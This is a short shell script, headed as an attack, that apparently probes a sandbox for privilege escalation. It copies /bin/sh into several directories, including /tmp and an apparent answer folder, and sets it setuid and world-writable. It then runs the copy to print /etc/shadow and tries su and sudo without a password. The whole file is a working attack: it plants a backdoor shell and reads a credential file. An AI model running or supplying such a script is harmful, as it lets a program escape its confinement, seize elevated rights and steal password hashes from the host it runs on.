#!/bin/sh
# attack: leaves a program that runs with the rights of whoever owns it
for folder in . /box/answer /tmp; do
  cp /bin/sh $folder/warren-attack-shell && chmod 6777 $folder/warren-attack-shell
done 2>/dev/null
[ -u /tmp/warren-attack-shell ] && /tmp/warren-attack-shell -p -c 'id; cat /etc/shadow'
su -c id; sudo -n id; mount | head -1
exit 1
